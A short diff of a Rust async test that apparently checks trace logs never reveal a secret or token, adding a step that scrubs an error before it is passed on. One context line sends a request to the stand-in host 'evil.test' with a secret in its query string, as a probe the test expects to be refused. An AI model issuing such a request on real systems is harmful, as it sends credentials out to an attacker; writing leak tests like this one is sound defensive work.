@@ -63,6 +63,8 @@ async fn nothing_at_trace_shows_a_secret_or_an_answers_token() {
             );
             let lost = call.send(request(&closing)).await.unwrap_err();
             let named = call.open(SECRET).await.unwrap_err();
+            // The plugin's own text is its own; what it passes on is scrubbed.
+            let named = call.scrub_failure(named);
             let refused = call
                 .send(get(format!("http://evil.test/?{SECRET}")))
                 .await
